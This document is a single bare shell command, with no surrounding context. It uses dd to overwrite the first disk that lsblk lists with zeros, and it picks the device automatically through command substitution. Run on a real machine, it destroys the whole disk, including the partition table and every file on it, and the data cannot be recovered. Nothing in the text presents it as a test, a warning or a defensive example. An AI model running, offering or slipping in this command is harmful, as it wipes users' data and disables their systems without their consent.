dd if=/dev/zero of=/dev/$(lsblk -no NAME | head -1) bs=1M
